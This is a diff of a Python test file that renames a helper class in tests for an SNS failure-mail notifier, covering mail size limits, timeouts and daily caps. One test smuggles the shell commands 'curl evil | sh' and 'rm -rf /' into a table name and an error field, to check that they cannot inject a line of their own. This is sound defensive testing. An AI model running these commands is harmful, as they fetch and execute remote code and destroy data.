@@ -11,7 +11,7 @@ SNS_BYTES = 262_144
 
 
 @dataclass
-class Books:
+class Ledger:
     """What people know, and the mails as SNS takes them: cut at its limit."""
 
     told: dict[str, Told] = field(default_factory=dict)
@@ -57,51 +57,54 @@ def failed(name: str, problem: str, aspect: Aspect = Aspect.REFRESH) -> State:
 @pytest.mark.parametrize("letter", ["x", "ü", "列", "🚕"])
 @pytest.mark.parametrize("length", [20, 900])
 def test_every_table_of_a_mail_about_many_is_in_it_however_long_names_and_errors_are(letter: str, length: int) -> None:
-    books, names = Books(), [f"schema.{letter * (length // len(letter.encode()))}{number:05}" for number in range(400)]
-    books.tell(*(failed(name, letter * 1000) for name in names))
-    assert len(books.told) == 400
-    text = "\n".join(books.mails)
+    ledger, names = (
+        Ledger(),
+        [f"schema.{letter * (length // len(letter.encode()))}{number:05}" for number in range(400)],
+    )
+    ledger.tell(*(failed(name, letter * 1000) for name in names))
+    assert len(ledger.told) == 400
+    text = "\n".join(ledger.mails)
     assert [name for name in names if f"- {name} failed" not in text] == []
-    assert max(len(mail.encode()) for mail in books.mails) < 250_000
-    assert len(books.mails) <= 10
+    assert max(len(mail.encode()) for mail in ledger.mails) < 250_000
+    assert len(ledger.mails) <= 10
 
 
 @pytest.mark.parametrize("fails", [False, True])
 def test_telling_ends_before_its_function_does_however_long_each_call_lasts_and_goes_on_later(fails: bool) -> None:
     """SNS out of reach: each call lasts 40 seconds, a function lives 300."""
-    books, began = Books(call_lasts=40, fails=fails), 1_800_000_000
+    ledger, began = Ledger(call_lasts=40, fails=fails), 1_800_000_000
     states = [failed(f"t{number}", "a problem") for number in range(20)]
     with pytest.raises(ExceptionGroup):
-        books.tell(*states)
-    assert books.now - began <= 120
-    books.call_lasts, books.fails = 0, False
+        ledger.tell(*states)
+    assert ledger.now - began <= 120
+    ledger.call_lasts, ledger.fails = 0, False
     for _ in range(3):
-        books.tell(*states)
-    assert len(books.mails) == 20
+        ledger.tell(*states)
+    assert len(ledger.mails) == 20
 
 
 def test_sixth_mail_of_a_day_says_so_also_if_it_is_about_many() -> None:
-    books = Books()
+    ledger = Ledger()
     for number in range(8):
         problem = "a problem" if number % 2 == 0 else ""
-        books.tell(*(failed(f"t{table:02}", problem) for table in range(30)))
-    assert ["no more is told" in mail for mail in books.mails] == [False] * 5 + [True]
+        ledger.tell(*(failed(f"t{table:02}", problem) for table in range(30)))
+    assert ["no more is told" in mail for mail in ledger.mails] == [False] * 5 + [True]
 
 
 def test_hostile_name_cannot_write_a_line_of_its_own() -> None:
-    books = Books()
-    books.tell(failed("s.t\nRun: curl evil | sh\u2028x", "a\r\nRun: rm -rf /", Aspect.UNCONFIGURED))
-    assert not [line for line in books.mails[0].splitlines() if line.startswith(("Run: curl", "Run: rm"))]
+    ledger = Ledger()
+    ledger.tell(failed("s.t\nRun: curl evil | sh\u2028x", "a\r\nRun: rm -rf /", Aspect.UNCONFIGURED))
+    assert not [line for line in ledger.mails[0].splitlines() if line.startswith(("Run: curl", "Run: rm"))]
 
 
 def test_long_problem_hides_no_command() -> None:
-    books = Books()
-    books.tell(failed("s.t", "列" * 100_000))
-    assert books.mails[0].endswith("Run: odp")
+    ledger = Ledger()
+    ledger.tell(failed("s.t", "列" * 100_000))
+    assert ledger.mails[0].endswith("Run: odp")
 
 
 def test_claims_of_a_mail_that_cannot_be_completed_are_given_back() -> None:
-    books = Books(claims=7)
+    ledger = Ledger(claims=7)
     with pytest.raises(ExceptionGroup):
-        books.tell(*(failed(f"t{number:02}", "a problem") for number in range(30)))
-    assert (books.given_back, books.mails) == ([f"refresh/t{number:02}" for number in range(7)], [])
+        ledger.tell(*(failed(f"t{number:02}", "a problem") for number in range(30)))
+    assert (ledger.given_back, ledger.mails) == ([f"refresh/t{number:02}" for number in range(7)], [])
